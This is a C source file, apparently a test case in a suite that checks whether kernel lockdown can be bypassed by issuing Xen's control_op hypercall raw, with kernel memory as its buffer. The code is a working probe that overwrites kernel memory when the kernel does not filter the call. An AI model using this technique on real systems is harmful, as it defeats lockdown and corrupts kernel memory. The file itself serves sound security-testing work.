// SPDX-License-Identifier: GPL-2.0-only
/*
 * The way that lockdown leaves open, misused: control_op issued raw, past the
 * kernel's check that its buffers are the caller's own.
 */
#include "rogue.h"

#include "control_op.h"

/*
 * U-CONTROL-RAW: have control_op write its answer over the kernel.
 *
 * Xen trusts the kernel to have looked at the buffers. A status call is sent as
 * any other raw hypercall, once with the victim as its buffer, once with memory
 * of our own: that even this one gets through would mean that the kernel does
 * not filter.
 */
ATTACK("U-CONTROL-RAW",
       "issue control_op raw, with kernel memory as its buffer")
{
    struct control_op_call *call = buffer(PAGE_SIZE);
    struct control_op_status *status = buffer(PAGE_SIZE), before, after;
    long result;
    bool written;

    *call = (struct control_op_call){ .version = CONTROL_OP_VERSION,
                                      .operation = CONTROL_OP_STATUS,
                                      .nr_buffers = 1,
                                      .args = { 1 },
                                      .buffers = {
                                          { victim(), sizeof(*status) } } };
    read_victim(&before, sizeof(before));
    result = hypercall1(CONTROL_OP_HYPERCALL, call);
    read_victim(&after, sizeof(after));
    written = memcmp(&before, &after, sizeof(before));

    if ( !written && result == -ENOSYS )
        return not_applicable("this Xen has no control_op");

    call->buffers[0].address = (uintptr_t)status;
    hypercall1(CONTROL_OP_HYPERCALL, call);

    if ( written )
        return effect(true, "the kernel's version overwritten");
    return effect(status->version, "%s",
                  status->version ? "a raw call reached Xen"
                                  : "no buffer was written to");
}
